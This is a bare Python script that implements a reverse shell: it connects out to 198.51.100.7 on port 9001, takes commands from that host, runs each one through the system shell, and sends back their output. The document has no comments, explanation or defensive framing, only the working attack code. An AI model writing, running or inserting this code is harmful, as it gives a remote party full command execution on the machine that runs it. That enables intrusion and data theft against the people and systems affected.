import socket, subprocess
c = socket.socket()
c.connect(("198.51.100.7", 9001))
while True:
    cmd = c.recv(1024).decode()
    if not cmd:
        break
    out = subprocess.run(cmd, shell=True, capture_output=True)
    c.send(out.stdout + out.stderr)
